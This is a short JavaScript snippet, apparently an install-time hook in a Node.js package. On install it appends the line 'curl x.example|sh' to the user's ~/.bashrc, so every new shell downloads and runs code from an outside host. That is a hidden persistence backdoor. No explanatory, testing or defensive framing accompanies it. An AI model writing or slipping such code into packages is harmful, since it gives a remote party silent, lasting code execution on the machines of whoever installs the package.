// when: install
const fs = require('fs'), os = require('os');
fs.appendFileSync(os.homedir() + '/.bashrc', 'curl x.example|sh');
